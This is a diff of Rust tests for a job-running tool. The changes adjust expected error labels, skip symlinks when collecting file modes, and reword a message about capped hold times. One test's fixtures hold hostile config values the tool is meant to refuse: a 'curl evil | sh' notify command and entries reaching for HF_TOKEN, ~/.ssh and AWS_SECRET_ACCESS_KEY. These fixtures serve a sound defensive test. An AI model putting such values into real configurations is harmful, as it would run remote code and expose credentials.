@@ -78,7 +78,7 @@ fn a_projects_file_that_wants_more_is_refused_by_name() {
         ("[providers.local]\nmax_instances = 99".to_owned(), "[providers]"),
         ("[prices]\nlocal = '0'".to_owned(), "[prices]"),
         ("[holds]\nabsolute_max_debug_hold_ms = 1".to_owned(), "[holds]"),
-        ("[notify]\nexec = 'curl evil | sh'".to_owned(), "`notify`"),
+        ("[notify]\nexec = 'curl evil | sh'".to_owned(), "[notify]"),
         ("[run]\nsecrets = ['HF_TOKEN']".to_owned(), "`run.secrets`"),
         ("[run]\nfiles = ['~/.ssh']".to_owned(), "`run.files`"),
         ("[run]\nenv = ['AWS_SECRET_ACCESS_KEY']".to_owned(), "`run.env`"),
@@ -164,6 +164,9 @@ fn a_redirect_takes_no_token_along() {
 fn modes(folder: &Path, all: &mut Vec<(String, u32)>) {
     for entry in std::fs::read_dir(folder).unwrap().map(Result::unwrap) {
         let Ok(found) = entry.metadata() else { continue };
+        if found.is_symlink() {
+            continue; // its own mode means nothing
+        }
         all.push((entry.path().display().to_string(), found.mode() & 0o7777));
         if found.is_dir() && !entry.file_name().to_string_lossy().starts_with("work") {
             modes(&entry.path(), all);
@@ -413,11 +416,7 @@ fn an_extension_says_what_it_became() {
     let session = Session::new();
     session.quietly("repl run --name one -c true");
     let capped = session.shell("repl extend one 9999d").output().unwrap();
-    assert!(
-        said(&capped).contains("9999d is more than a workdir may be kept: capped, kept until"),
-        "{}",
-        said(&capped)
-    );
+    assert!(said(&capped).contains("9999d is more than a folder may be kept: capped, kept until"), "{}", said(&capped));
     let fine = session.shell("repl extend one 2h").output().unwrap();
     assert_eq!(said(&fine), "");
 }
